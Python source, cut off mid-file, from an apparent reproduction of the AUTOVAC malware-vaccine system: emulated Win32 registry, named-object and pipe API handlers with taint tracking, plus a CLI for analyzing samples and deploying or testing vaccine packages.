    failure=FailureSpec(NULL, Win32Error.INVALID_PARAMETER),
)
def get_proc_address(ctx: ApiContext) -> int:
    ctx.handle_arg(0)
    name, _ = ctx.read_string_arg(1)
    # Deterministic fake export address derived from the symbol name.
    return 0x7C800000 + (sum(name.encode()) & 0xFFFF)


@api("FreeLibrary", argc=1, returns=Returns.BOOL)
def free_library(ctx: ApiContext) -> int:
    ctx.process.handles.close(ctx.arg(0))
    return TRUE
