"""Registry APIs.

Key paths resolve against hive pseudo-handles (``HKEY_LOCAL_MACHINE`` /
``HKEY_CURRENT_USER``) or against previously opened key handles, mirroring the
Win32 model; the resolved full path is the vaccine identifier.
"""

from __future__ import annotations

from typing import List, Tuple

from ..taint.labels import EMPTY, TagSet, TaintClass, union
from ..winenv.errors import ResourceFault, TRUE, Win32Error
from ..winenv.objects import HandleKind, Operation, ResourceType
from ..winenv.registry import normalize_key
from .context import ApiContext
from .labels import FailureSpec, HIVE_NAMES, Returns, api

REG_SZ = 1
REG_DWORD = 4

ERROR_SUCCESS = 0
ERROR_FILE_NOT_FOUND = int(Win32Error.FILE_NOT_FOUND)


def _resolve_key_path(ctx: ApiContext, hkey_arg: int, subkey_arg: int) -> Tuple[str, List[TagSet]]:
    """Join a hive/parent-handle argument with the subkey string."""
    hkey = ctx.arg(hkey_arg)
    subkey, taints = ctx.read_string_arg(subkey_arg)
    if hkey in HIVE_NAMES:
        base = HIVE_NAMES[hkey]
    else:
        handle = ctx.handle(hkey)
        if handle.resource is None:
            raise ResourceFault(Win32Error.INVALID_HANDLE)
        base = handle.resource.name
    full = normalize_key(f"{base}\\{subkey}") if subkey else normalize_key(base)
    return full, taints


def _set_identifier(ctx: ApiContext, path: str, taints: List[TagSet]) -> None:
    ctx.identifier = path
    ctx.identifier_taints = taints


# Registry APIs return the error code directly (no GetLastError), so the
# "failure retval" is the Win32 error value itself.


@api(
    "RegOpenKeyExA",
    argc=5,
    returns=Returns.ERRCODE,
    resource=ResourceType.REGISTRY,
    operation=Operation.READ,
    registry_path_args=(0, 1),
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(ERROR_FILE_NOT_FOUND, Win32Error.FILE_NOT_FOUND),
)
def reg_open_key(ctx: ApiContext) -> int:
    """Open an existing key; out-handle via 5th parameter."""
    path = ctx.identifier or _resolve_key_path(ctx, 0, 1)[0]
    key = ctx.env.registry.lookup(path)
    if key is None:
        raise ResourceFault(Win32Error.FILE_NOT_FOUND, path)
    out_ptr = ctx.arg(4)
    handle = ctx.alloc_handle(HandleKind.REGISTRY, key)
    if out_ptr:
        ctx.write_u32(out_ptr, handle.value, ctx.mint_tag())
    return ERROR_SUCCESS


@api(
    "RegCreateKeyExA",
    argc=5,
    returns=Returns.ERRCODE,
    resource=ResourceType.REGISTRY,
    operation=Operation.CREATE,
    registry_path_args=(0, 1),
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(int(Win32Error.ACCESS_DENIED), Win32Error.ACCESS_DENIED),
)
def reg_create_key(ctx: ApiContext) -> int:
    path = ctx.identifier or _resolve_key_path(ctx, 0, 1)[0]
    key = ctx.env.registry.create_key(path, ctx.integrity, created_by=ctx.process.pid)
    out_ptr = ctx.arg(4)
    handle = ctx.alloc_handle(HandleKind.REGISTRY, key)
    if out_ptr:
        ctx.write_u32(out_ptr, handle.value, ctx.mint_tag())
    return ERROR_SUCCESS


@api(
    "RegQueryValueExA",
    argc=6,
    returns=Returns.ERRCODE,
    resource=ResourceType.REGISTRY,
    operation=Operation.READ,
    identifier_handle_arg=0,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(ERROR_FILE_NOT_FOUND, Win32Error.FILE_NOT_FOUND),
)
def reg_query_value(ctx: ApiContext) -> int:
    """Read a value; string data lands resource-tainted in the out buffer."""
    handle = ctx.handle_arg(0)
    name, _ = ctx.read_string_arg(1)
    buf, size_ptr = ctx.arg(4), ctx.arg(5)
    ctx.extra["value_name"] = name
    if handle.resource is None or handle.state.get("phantom"):
        raise ResourceFault(Win32Error.FILE_NOT_FOUND, name)
    value = ctx.env.registry.query_value(handle.resource.name, name, ctx.integrity)
    tag = ctx.mint_tag()
    if isinstance(value, int):
        if buf:
            ctx.write_u32(buf, value, tag)
        if size_ptr:
            ctx.write_u32(size_ptr, 4)
    else:
        if buf:
            ctx.write_string(buf, value, taint=tag)
        if size_ptr:
            ctx.write_u32(size_ptr, len(value) + 1)
    return ERROR_SUCCESS


@api(
    "RegSetValueExA",
    argc=6,
    returns=Returns.ERRCODE,
    resource=ResourceType.REGISTRY,
    operation=Operation.WRITE,
    identifier_handle_arg=0,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(int(Win32Error.ACCESS_DENIED), Win32Error.ACCESS_DENIED),
)
def reg_set_value(ctx: ApiContext) -> int:
    handle = ctx.handle_arg(0)
    name, _ = ctx.read_string_arg(1)
    vtype, data_ptr, size = ctx.arg(3), ctx.arg(4), ctx.arg(5)
    ctx.extra["value_name"] = name
    if handle.resource is None:
        raise ResourceFault(Win32Error.INVALID_HANDLE)
    if vtype == REG_DWORD:
        value = ctx.read_u32(data_ptr)
    else:
        value, _ = ctx.read_string(data_ptr)
    ctx.extra["value_data"] = value
    if not handle.state.get("phantom"):
        ctx.env.registry.set_value(handle.resource.name, name, value, ctx.integrity)
    return ERROR_SUCCESS


@api(
    "RegDeleteValueA",
    argc=2,
    returns=Returns.ERRCODE,
    resource=ResourceType.REGISTRY,
    operation=Operation.DELETE,
    identifier_handle_arg=0,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(ERROR_FILE_NOT_FOUND, Win32Error.FILE_NOT_FOUND),
)
def reg_delete_value(ctx: ApiContext) -> int:
    handle = ctx.handle_arg(0)
    name, _ = ctx.read_string_arg(1)
    if handle.resource is None:
        raise ResourceFault(Win32Error.INVALID_HANDLE)
    ctx.env.registry.delete_value(handle.resource.name, name, ctx.integrity)
    return ERROR_SUCCESS


@api(
    "RegDeleteKeyA",
    argc=2,
    returns=Returns.ERRCODE,
    resource=ResourceType.REGISTRY,
    operation=Operation.DELETE,
    registry_path_args=(0, 1),
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(ERROR_FILE_NOT_FOUND, Win32Error.FILE_NOT_FOUND),
)
def reg_delete_key(ctx: ApiContext) -> int:
    path = ctx.identifier or _resolve_key_path(ctx, 0, 1)[0]
    ctx.env.registry.delete_key(path, ctx.integrity)
    return ERROR_SUCCESS


@api("RegCloseKey", argc=1, returns=Returns.ERRCODE)
def reg_close_key(ctx: ApiContext) -> int:
    ctx.process.handles.close(ctx.arg(0))
    return ERROR_SUCCESS


@api(
    "NtOpenKey",
    argc=3,
    returns=Returns.NTSTATUS,
    resource=ResourceType.REGISTRY,
    operation=Operation.READ,
    identifier_arg=2,
    taint=TaintClass.RESOURCE,
)
def nt_open_key(ctx: ApiContext) -> int:
    """NT open-by-full-path: handle via first (out) parameter (Table I note)."""
    out_ptr = ctx.arg(0)
    path = normalize_key(ctx.identifier or "")
    key = ctx.env.registry.lookup(path)
    if key is None:
        raise ResourceFault(Win32Error.FILE_NOT_FOUND, path)
    handle = ctx.alloc_handle(HandleKind.REGISTRY, key)
    ctx.write_u32(out_ptr, handle.value, ctx.mint_tag())
    return 0


@api(
    "NtSaveKey",
    argc=2,
    returns=Returns.NTSTATUS,
    resource=ResourceType.REGISTRY,
    operation=Operation.READ,
    identifier_handle_arg=0,
    taint=TaintClass.RESOURCE,
)
def nt_save_key(ctx: ApiContext) -> int:
    """Serialize a key to a file handle (taints only the return — Table I)."""
    handle = ctx.handle_arg(0)
    if handle.resource is None:
        raise ResourceFault(Win32Error.INVALID_HANDLE)
    return 0
