"""Named kernel objects beyond mutexes: semaphores, file mappings, atoms,
waitable timers — and named pipes.

These are all real-world infection-marker vectors (the paper's Figure 2
traces a *named pipe* ``\\\\.PIPE\\_AVIRA_2109``).  Named pipes live in the
filesystem namespace (``\\\\.\\pipe\\…``), the rest share the named-kernel-
object namespace, which the environment models with the mutex table — they
are, for vaccine purposes, named markers with create/open semantics, so they
carry the MUTEX resource label (Figure 3 groups them the same way).
"""

from __future__ import annotations

from ..taint.labels import TaintClass
from ..winenv.errors import NULL, ResourceFault, TRUE, Win32Error
from ..winenv.objects import HandleKind, Operation, ResourceType
from .context import ApiContext
from .labels import FailureSpec, Returns, api

PIPE_PREFIX = "\\\\.\\pipe\\"


def _create_named_object(ctx: ApiContext) -> int:
    name = ctx.identifier or ""
    if not name:
        raise ResourceFault(Win32Error.INVALID_PARAMETER, "anonymous object")
    obj, existed = ctx.env.mutexes.create(name, ctx.integrity, created_by=ctx.process.pid)
    from ..winenv.acl import Access

    obj.acl.check(ctx.integrity, Access.CREATE if not existed else Access.READ)
    handle = ctx.alloc_handle(HandleKind.MUTEX, obj)
    if existed:
        ctx.set_last_error(int(Win32Error.ALREADY_EXISTS), ctx.mint_tag())
        ctx.extra["already_exists"] = True
    return handle.value


def _open_named_object(ctx: ApiContext) -> int:
    obj = ctx.env.mutexes.open(ctx.identifier or "")
    handle = ctx.alloc_handle(HandleKind.MUTEX, obj)
    return handle.value


@api(
    "CreateSemaphoreA",
    argc=4,
    returns=Returns.HANDLE,
    resource=ResourceType.MUTEX,
    operation=Operation.CREATE,
    identifier_arg=3,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(NULL, Win32Error.ACCESS_DENIED),
)
def create_semaphore(ctx: ApiContext) -> int:
    """(lpAttributes, lInitialCount, lMaximumCount, lpName)."""
    return _create_named_object(ctx)


@api(
    "OpenSemaphoreA",
    argc=3,
    returns=Returns.HANDLE,
    resource=ResourceType.MUTEX,
    operation=Operation.CHECK,
    identifier_arg=2,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(NULL, Win32Error.FILE_NOT_FOUND),
)
def open_semaphore(ctx: ApiContext) -> int:
    return _open_named_object(ctx)


@api(
    "CreateFileMappingA",
    argc=6,
    returns=Returns.HANDLE,
    resource=ResourceType.MUTEX,
    operation=Operation.CREATE,
    identifier_arg=5,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(NULL, Win32Error.ACCESS_DENIED),
    doc="Named shared-memory section — a classic single-instance marker.",
)
def create_file_mapping(ctx: ApiContext) -> int:
    return _create_named_object(ctx)


@api(
    "OpenFileMappingA",
    argc=3,
    returns=Returns.HANDLE,
    resource=ResourceType.MUTEX,
    operation=Operation.CHECK,
    identifier_arg=2,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(NULL, Win32Error.FILE_NOT_FOUND),
)
def open_file_mapping(ctx: ApiContext) -> int:
    return _open_named_object(ctx)


@api(
    "CreateWaitableTimerA",
    argc=3,
    returns=Returns.HANDLE,
    resource=ResourceType.MUTEX,
    operation=Operation.CREATE,
    identifier_arg=2,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(NULL, Win32Error.ACCESS_DENIED),
)
def create_waitable_timer(ctx: ApiContext) -> int:
    return _create_named_object(ctx)


@api(
    "GlobalAddAtomA",
    argc=1,
    returns=Returns.VALUE,
    resource=ResourceType.MUTEX,
    operation=Operation.CREATE,
    identifier_arg=0,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(0, Win32Error.ACCESS_DENIED),
    doc="Global atom table entry — marker returning a 16-bit atom.",
)
def global_add_atom(ctx: ApiContext) -> int:
    name = ctx.identifier or ""
    if not name:
        raise ResourceFault(Win32Error.INVALID_PARAMETER)
    ctx.env.mutexes.create(f"atom:{name}", ctx.integrity, created_by=ctx.process.pid)
    return 0xC000 + (sum(name.encode("latin-1", "replace")) & 0x3FFF)


@api(
    "GlobalFindAtomA",
    argc=1,
    returns=Returns.VALUE,
    resource=ResourceType.MUTEX,
    operation=Operation.CHECK,
    identifier_arg=0,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(0, Win32Error.FILE_NOT_FOUND),
)
def global_find_atom(ctx: ApiContext) -> int:
    name = ctx.identifier or ""
    if not ctx.env.mutexes.exists(f"atom:{name}"):
        raise ResourceFault(Win32Error.FILE_NOT_FOUND, name)
    return 0xC000 + (sum(name.encode("latin-1", "replace")) & 0x3FFF)


# -- named pipes (filesystem namespace, as in paper Figure 2) ----------------


@api(
    "CreateNamedPipeA",
    argc=4,
    returns=Returns.HANDLE,
    resource=ResourceType.FILE,
    operation=Operation.CREATE,
    identifier_arg=0,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(0xFFFFFFFF, Win32Error.ACCESS_DENIED),
    doc="(lpName \\\\.\\pipe\\…, dwOpenMode, dwPipeMode, nMaxInstances).",
)
def create_named_pipe(ctx: ApiContext) -> int:
    name = (ctx.identifier or "").lower()
    if not name.startswith(PIPE_PREFIX.lower()):
        raise ResourceFault(Win32Error.INVALID_PARAMETER, name)
    node = ctx.env.filesystem.create(
        name, ctx.integrity, exist_ok=True, created_by=ctx.process.pid
    )
    handle = ctx.alloc_handle(HandleKind.FILE, node)
    return handle.value


@api(
    "WaitNamedPipeA",
    argc=2,
    returns=Returns.BOOL,
    resource=ResourceType.FILE,
    operation=Operation.CHECK,
    identifier_arg=0,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(0, Win32Error.FILE_NOT_FOUND),
)
def wait_named_pipe(ctx: ApiContext) -> int:
    """Existence probe for a server pipe — the other half of the marker."""
    if not ctx.env.filesystem.exists(ctx.identifier or ""):
        raise ResourceFault(Win32Error.FILE_NOT_FOUND, ctx.identifier or "")
    return TRUE


@api(
    "CallNamedPipeA",
    argc=6,
    returns=Returns.BOOL,
    resource=ResourceType.FILE,
    operation=Operation.WRITE,
    identifier_arg=0,
    taint=TaintClass.RESOURCE,
    failure=FailureSpec(0, Win32Error.FILE_NOT_FOUND),
)
def call_named_pipe(ctx: ApiContext) -> int:
    """(name, inBuf, inLen, outBuf, outLen, timeout): transact on a pipe."""
    name = ctx.identifier or ""
    if not ctx.env.filesystem.exists(name):
        raise ResourceFault(Win32Error.FILE_NOT_FOUND, name)
    in_buf, in_len = ctx.arg(1), ctx.arg(2)
    out_buf = ctx.arg(3)
    if in_buf and in_len:
        data = ctx.read_buffer(in_buf, min(in_len, 256))
        ctx.env.filesystem.write(name, ctx.integrity, data)
    if out_buf:
        ctx.write_buffer(out_buf, b"ACK", taint=ctx.mint_tag())
    return TRUE
