"""Command-line interface.

Subcommands::

    python -m repro analyze  <family|asm-file> [-o pack.json] [--explore] [--minimal]
                             [--metrics m.json]
    python -m repro deploy   <pack.json> [--computer-name NAME] [--attack FAMILY]
    python -m repro families
    python -m repro survey   [--size N] [--seed S] [--jobs N] [--cache DIR]
                             [--timeout S] [--retries N] [--failures-json f.json]
                             [--metrics m.json] [--run-dir DIR] [--progress]
                             [--profile]
    python -m repro stats    <m.json> [--prom] [--flame-depth N] [--top N]
    python -m repro profile  <family|asm-file> [--json|--folded] [--top N]
    python -m repro explain  <family|asm-file> [--vaccine SUBSTR] [--json FILE]
    python -m repro policy   <family|asm-file> [--json FILE] [--enforce]
    python -m repro tail     <run-dir> [--follow] [--interval S] [--json]
    python -m repro runs     <dir>

``analyze`` runs the full pipeline on a built-in family or an assembly file
and optionally writes a vaccine package; ``deploy`` simulates deployment on a
fresh machine (optionally re-attacking it with a family sample); ``survey``
prints the population-scale tables — ``--jobs N`` fans the analysis out to
worker processes and ``--cache DIR`` makes an interrupted survey resumable
(already-analyzed samples are served from the content-addressed result
cache).  ``--metrics`` captures the run's
observability snapshot (``repro.obs``: per-phase spans, per-API counters, VM
instruction counts) to a JSON file; ``stats`` pretty-prints such a file or
re-emits it as Prometheus text.  ``explain`` re-analyzes one sample with the
flight recorder on and prints, per vaccine, the causal chain of journal
events that led to it (mutation, divergence, verdicts, back to the original
API interception).  ``policy`` synthesizes a sample's temporal API policy
(init-phase vs steady-state allowlists plus benign-subtracted steady-state
deny rules); ``--enforce`` clinic-certifies it against the benign suite and
re-attacks a policy-enforcing host with the sample.  Set ``REPRO_LOG=info``
for structured logs.

``survey --run-dir DIR`` records live run telemetry (DESIGN.md §11): a
persistent ledger of per-sample lifecycle events plus a manifest; add
``--progress`` for a live progress line.  ``tail`` replays (or, with
``--follow``, streams) a run directory's ledger — attachable while the
survey is still running from another terminal (``--interval`` sets the poll
period); ``runs`` lists the run directories under a parent directory with
their outcomes.

``profile`` analyzes one sample with the hot-path profiler (``obs.prof``)
on and prints the self-time attribution table: VM time per tier
(slow/fast/superblock region), API dispatch per handler with the
``read_stack_args`` cost split out, snapshot pickle/unpickle, and rule
matching.  ``--json`` emits the nested tree, ``--folded`` collapsed stacks
for flamegraph tooling.  ``survey --profile`` collects the same attribution
population-wide (merged across workers; with ``--run-dir`` the per-sample
deltas land in ``profile.jsonl``).
"""

from __future__ import annotations

import argparse
import sys
from pathlib import Path
from typing import List, Optional

from . import obs
from .core import AutoVac, render_report, run_sample, select_minimal
from .corpus import FAMILIES, GeneratorConfig, build_family, generate_population
from .delivery import VaccinePackage, deploy
from .vm.assembler import assemble
from .winenv import MachineIdentity, SystemEnvironment


def _load_program(spec: str):
    if spec in FAMILIES:
        return build_family(spec)
    path = Path(spec)
    if not path.exists():
        raise SystemExit(f"error: {spec!r} is neither a family ({', '.join(FAMILIES)}) "
                         f"nor an assembly file")
    return assemble(path.read_text(), name=path.stem)


def _write_metrics(path: Optional[str]) -> None:
    if path:
        try:
            obs.export_json(path)
        except OSError as exc:
            raise SystemExit(f"error: cannot write metrics snapshot: {exc}")
        print(f"wrote metrics snapshot {path}")


def cmd_families(args: argparse.Namespace) -> int:
    for name, module in sorted(FAMILIES.items()):
        # A family module may have no (or an empty) docstring; don't crash on it.
        doc_lines = (module.__doc__ or "").strip().splitlines()
        summary = doc_lines[0] if doc_lines else "(no description)"
        print(f"{name:12s} {module.CATEGORY:10s} {summary}")
    return 0


def cmd_analyze(args: argparse.Namespace) -> int:
    program = _load_program(args.sample)
    autovac = AutoVac(explore_paths=args.explore)
    analysis = autovac.analyze(program)

    if analysis.filtered_reason:
        print(f"{program.name}: filtered — {analysis.filtered_reason}")
        _write_metrics(args.metrics)
        return 1

    phase1 = analysis.phase1
    print(f"{program.name}: {phase1.total_occurrences} resource accesses, "
          f"{len(phase1.candidates)} candidates, "
          f"{len(analysis.vaccines)} vaccines")
    vaccines = analysis.vaccines
    if args.minimal:
        selection = select_minimal(vaccines)
        vaccines = selection.selected
        print(f"minimal set: {len(vaccines)} kept, {len(selection.dropped)} dropped")
    for vaccine in vaccines:
        print(f"  {vaccine.describe()}")

    if args.output:
        package = VaccinePackage(vaccines=vaccines,
                                 description=f"vaccines for {program.name}")
        package.save(args.output)
        print(f"wrote {args.output} ({len(package)} vaccines)")
    if args.report:
        Path(args.report).write_text(render_report(analysis))
        print(f"wrote {args.report}")
    _write_metrics(args.metrics)
    return 0


def cmd_deploy(args: argparse.Namespace) -> int:
    package = VaccinePackage.load(args.package)
    identity = MachineIdentity(computer_name=args.computer_name)
    host = SystemEnvironment(identity=identity)
    deployment = deploy(package, host)
    print(f"deployed {len(package)} vaccines on {identity.computer_name}: "
          f"{len(deployment.injections)} direct injections, "
          f"daemon={'yes' if deployment.daemon_needed else 'no'}")
    for record in deployment.injections:
        print(f"  {record.action}: {record.identifier}")
    for vaccine, reason in deployment.failures:
        print(f"  FAILED {vaccine.identifier}: {reason}")

    if args.attack:
        program = _load_program(args.attack)
        run = run_sample(program, environment=host, record_instructions=False)
        verdict = "PROTECTED" if run.trace.terminated else "check manually"
        print(f"attack with {program.name}: exit={run.trace.exit_status}, "
              f"{len(run.trace.api_calls)} API calls -> {verdict}")
        return 0 if run.trace.terminated else 2
    return 0


def cmd_survey(args: argparse.Namespace) -> int:
    import json as _json

    from .core.executor import PipelineConfig, analyze_population

    run_dir = args.run_dir
    progress = None
    if args.progress:
        if run_dir is None:
            import tempfile

            run_dir = tempfile.mkdtemp(prefix="repro-run-")
        progress = obs.ProgressView()
    if run_dir is not None:
        print(f"run dir: {run_dir} (watch with: repro tail {run_dir} --follow)")

    samples = generate_population(GeneratorConfig(size=args.size, seed=args.seed))
    result = analyze_population(
        [s.program for s in samples],
        config=PipelineConfig(
            sample_timeout=args.timeout,
            sample_retries=args.retries,
            profile=args.profile,
        ),
        jobs=args.jobs,
        cache=args.cache,
        run_dir=run_dir,
        progress=progress,
    )
    failed = result.failed()
    print(f"{args.size} samples ({len(result.succeeded())} analyzed, "
          f"{len(failed)} failed) -> {len(result.vaccines)} vaccines "
          f"from {result.samples_with_vaccines} samples")
    if failed:
        kinds: dict = {}
        for failure in failed:
            kinds[failure.kind] = kinds.get(failure.kind, 0) + 1
        breakdown = ", ".join(f"{k}={v}" for k, v in sorted(kinds.items()))
        print(f"failures: {len(failed)} sample(s) quarantined ({breakdown})")
        for failure in failed:
            print(f"  FAILED {failure.describe()}")
    if args.failures_json:
        doc = {"failures": [f.to_dict() for f in failed]}
        try:
            Path(args.failures_json).write_text(_json.dumps(doc, indent=2))
        except OSError as exc:
            raise SystemExit(f"error: cannot write failure summary: {exc}")
        print(f"wrote failure summary {args.failures_json}")
    if args.cache:
        print(f"cache: {obs.metrics.value('pipeline.cache_hits'):.0f} hits, "
              f"{obs.metrics.value('pipeline.cache_misses'):.0f} misses")
    print("by resource x immunization:")
    for rtype, row in sorted(result.count_by_resource_and_immunization().items()):
        cells = ", ".join(f"{k}={v}" for k, v in sorted(row.items()))
        print(f"  {rtype:10s} {cells}")
    print("identifier kinds:", result.count_by_identifier_kind())
    print("delivery:", result.count_by_delivery())
    if args.profile and len(obs.prof):
        print("hot paths (merged across the population):")
        sys.stdout.write(obs.render_table(obs.prof.snapshot(), top=15))
    _write_metrics(args.metrics)
    return 0


def cmd_policy(args: argparse.Namespace) -> int:
    import json as _json

    from .core.policy import validate_policy
    from .corpus.benign import benign_suite
    from .delivery.daemon import VaccineDaemon

    program = _load_program(args.sample)
    analysis = AutoVac().analyze(program)
    if analysis.filtered_reason:
        print(f"{program.name}: filtered — {analysis.filtered_reason}")
        return 1
    policy = analysis.policy
    if policy is None:
        print(f"{program.name}: no temporal policy — no effective impact "
              f"gave the synthesizer a boundary")
        return 1

    print(policy.describe())
    for phase, allow in (("init", policy.init_allow), ("steady", policy.steady_allow)):
        for (rtype, op), identifiers in allow.items():
            names = ", ".join(identifiers)
            print(f"  allow [{phase:6s}] {rtype.value}:{op.value} -> {names}")
    for rule in policy.deny:
        print(f"  {rule.describe()} via {', '.join(rule.apis)}")
    for sub in policy.subtracted:
        print(f"  subtracted {sub.resource_type.value}:{sub.identifier!r} — {sub.reason}")

    status = 0
    if args.enforce:
        benign = benign_suite()
        validation = validate_policy(policy, benign)
        verdict = (
            "clean"
            if validation.clean
            else f"{len(validation.incidents)} incident(s), "
                 f"{len(validation.removed)} deny rule(s) removed"
        )
        print(f"clinic: {len(benign)} benign programs -> {verdict} "
              f"(certified={policy.certified})")
        host = SystemEnvironment()
        daemon = VaccineDaemon(policies=[policy])
        daemon.install(host)
        run = run_sample(program, environment=host, record_instructions=False)
        denied = daemon.policy_violations
        protected = denied > 0
        print(f"attack with {program.name}: exit={run.trace.exit_status}, "
              f"{denied} steady-state acquisition(s) denied -> "
              f"{'PROTECTED' if protected else 'check manually'}")
        if not policy.certified or not protected:
            status = 2

    if args.json:
        doc = {"sample": program.name, "policy": policy.to_dict()}
        try:
            Path(args.json).write_text(_json.dumps(doc, indent=2))
        except OSError as exc:
            raise SystemExit(f"error: cannot write policy: {exc}")
        print(f"wrote {args.json} ({len(policy.deny)} deny rules)")
    return status


def cmd_stats(args: argparse.Namespace) -> int:
    try:
        data = obs.load(args.snapshot)
    except (OSError, ValueError) as exc:
        raise SystemExit(f"error: {exc}")
    if args.prom:
        sys.stdout.write(obs.render_prometheus(data))
    else:
        depth = args.flame_depth if args.flame_depth is not None else args.depth
        sys.stdout.write(obs.render_stats(data, max_depth=depth, top=args.top))
    return 0


def cmd_profile(args: argparse.Namespace) -> int:
    import json as _json

    from .obs.prof import render_table, to_folded, to_tree

    program = _load_program(args.sample)
    with obs.profiled():
        analysis = AutoVac().analyze(program)
    profile = analysis.profile or {}
    if not profile:
        print(f"{program.name}: no profile data collected", file=sys.stderr)
        return 1
    if args.json:
        doc = {"sample": program.name, "tree": to_tree(profile)}
        sys.stdout.write(_json.dumps(doc, indent=2) + "\n")
    elif args.folded:
        sys.stdout.write(to_folded(profile))
    else:
        print(f"hot paths for {program.name} (self-time attribution):")
        sys.stdout.write(render_table(profile, top=args.top))
    return 0


def _explain_failure(args, program, exc) -> int:
    """``repro explain`` on a sample whose analysis died (the executor
    would have quarantined it as a :class:`SampleFailure`): print the
    failure record and whatever partial journal the flight recorder holds
    instead of an unhandled traceback."""
    import json as _json

    from .core.faults import InjectedHang
    from .core.pipeline import SampleFailure

    failure = SampleFailure(
        sample=program.name,
        index=0,
        kind="timeout" if isinstance(exc, InjectedHang) else "crash",
        error_type=type(exc).__name__,
        message=str(exc),
    )
    partial = obs.flight.events()
    print(f"{program.name}: analysis failed — no SampleAnalysis to explain")
    print(f"  {failure.describe()}")
    if partial:
        print(f"  partial journal ({len(partial)} events recorded before the failure):")
        for event in partial[-12:]:
            print(f"    [e{event.event_id}] {obs.summarize_event(event)}")
    else:
        print("  no journal events were recorded before the failure")
    if args.json:
        doc = {
            "sample": program.name,
            "failure": failure.to_dict(),
            "journal": {
                "sample": program.name,
                "events": [e.to_dict() for e in partial],
            },
        }
        try:
            Path(args.json).write_text(_json.dumps(doc, indent=2))
        except OSError as write_exc:
            raise SystemExit(f"error: cannot write journal: {write_exc}")
        print(f"wrote {args.json} (failure record + {len(partial)} partial events)")
    return 1


def cmd_explain(args: argparse.Namespace) -> int:
    import json as _json

    from .core.faults import FaultPlan

    program = _load_program(args.sample)
    try:
        # The fault plan applies here too, so an injected failure can be
        # explained the same way a real analyzer crash would be.
        FaultPlan.from_env().raise_inline(0, program.name, 1)
        analysis = AutoVac().analyze(program)
    except Exception as exc:  # noqa: BLE001 - report, don't traceback
        return _explain_failure(args, program, exc)
    journal = analysis.journal
    if journal is None or not len(journal):
        print(f"{program.name}: no journal recorded (flight recorder disabled?)")
        return 1

    anchors = journal.find("vaccine")
    if args.vaccine:
        needle = args.vaccine.lower()

        def matches(event):
            return needle in str(event.attrs.get("identifier", "")).lower() or (
                needle == str(event.attrs.get("resource", "")).lower()
            )

        anchors = [e for e in anchors if matches(e)]
        if not anchors:
            # The candidate may have been discarded before becoming a
            # vaccine; fall back to its last recorded verdict.
            anchors = [
                e for e in journal.events
                if e.kind.startswith(("vaccine.", "verdict.")) and matches(e)
            ]

    if args.json:
        doc = {
            "sample": journal.sample,
            "anchors": [e.event_id for e in anchors],
            "journal": journal.to_dict(),
        }
        try:
            Path(args.json).write_text(_json.dumps(doc, indent=2))
        except OSError as exc:
            raise SystemExit(f"error: cannot write journal: {exc}")
        print(f"wrote {args.json} ({len(journal)} events, {len(anchors)} anchors)")

    if not anchors:
        what = f"matching {args.vaccine!r}" if args.vaccine else "recorded"
        print(f"{program.name}: no vaccine or verdict events {what} "
              f"({len(journal)} journal events)")
        return 1

    print(f"{program.name}: {len(journal)} journal events, "
          f"{len(anchors)} decision(s) to explain")
    for anchor in anchors:
        print()
        print(obs.render_chain(journal, anchor.event_id, max_depth=args.depth))
    return 0


def cmd_tail(args: argparse.Namespace) -> int:
    import json as _json

    from .obs import ledger

    try:
        manifest = ledger.read_manifest(args.run_dir)
    except ValueError as exc:
        raise SystemExit(f"error: {exc}")
    started = manifest.get("started_unix")
    count = 0
    try:
        for event in ledger.iter_ledger(
            args.run_dir, follow=args.follow, poll_seconds=args.interval
        ):
            count += 1
            if args.json:
                print(_json.dumps(event))
            else:
                print(ledger.render_event(event, started))
    except KeyboardInterrupt:  # pragma: no cover - interactive detach
        pass
    except BrokenPipeError:  # piped into `head` and the reader left
        try:
            sys.stdout.close()
        except OSError:
            pass
        return 0
    try:
        manifest = ledger.read_manifest(args.run_dir)
    except ValueError:
        pass
    if not args.json:
        print(f"-- {count} event(s) | {ledger.describe_manifest(manifest)}")
    return 0


def cmd_runs(args: argparse.Namespace) -> int:
    from .core import render_run_manifest
    from .obs import ledger

    root = Path(args.dir)
    if (root / ledger.MANIFEST_NAME).is_file():
        # Pointed at a single run: render its manifest summary.
        try:
            manifest = ledger.read_manifest(root)
        except ValueError as exc:
            raise SystemExit(f"error: {exc}")
        sys.stdout.write(render_run_manifest(manifest))
        return 0
    runs = ledger.list_runs(root)
    if not runs:
        print(f"no runs under {root}")
        return 1
    for manifest in runs:
        print(ledger.describe_manifest(manifest))
    return 0


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="repro", description="AUTOVAC reproduction command line"
    )
    sub = parser.add_subparsers(dest="command", required=True)

    p = sub.add_parser("families", help="list built-in malware families")
    p.set_defaults(func=cmd_families)

    p = sub.add_parser("analyze", help="run the pipeline on a sample")
    p.add_argument("sample", help="family name or .asm file path")
    p.add_argument("-o", "--output", help="write a vaccine package (JSON)")
    p.add_argument("--explore", action="store_true",
                   help="enable enforced execution (dormant-path discovery)")
    p.add_argument("--minimal", action="store_true",
                   help="reduce to the minimal covering vaccine set")
    p.add_argument("--report", help="write a markdown analysis report")
    p.add_argument("--metrics", help="write an observability snapshot (JSON)")
    p.set_defaults(func=cmd_analyze)

    p = sub.add_parser("deploy", help="simulate deployment on a fresh machine")
    p.add_argument("package", help="vaccine package JSON file")
    p.add_argument("--computer-name", default="END-HOST-01")
    p.add_argument("--attack", help="re-attack the host with a family/sample")
    p.set_defaults(func=cmd_deploy)

    p = sub.add_parser("survey", help="population-scale pipeline statistics")
    p.add_argument("--size", type=int, default=100)
    p.add_argument("--seed", type=int, default=42)
    p.add_argument("--jobs", type=int, default=1,
                   help="worker processes (1 = in-process, sequential)")
    p.add_argument("--cache",
                   help="content-addressed result cache directory "
